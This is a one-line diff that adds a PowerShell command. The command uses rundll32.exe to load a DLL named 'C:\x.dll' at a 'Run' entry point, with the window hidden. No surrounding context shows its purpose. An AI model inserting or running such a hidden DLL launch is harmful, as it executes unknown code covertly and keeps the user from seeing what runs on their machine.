@@ -1,0 +1,1 @@
+Start-Process -FilePath 'rundll32.exe' -ArgumentList 'C:\x.dll,Run' -WindowStyle Hidden
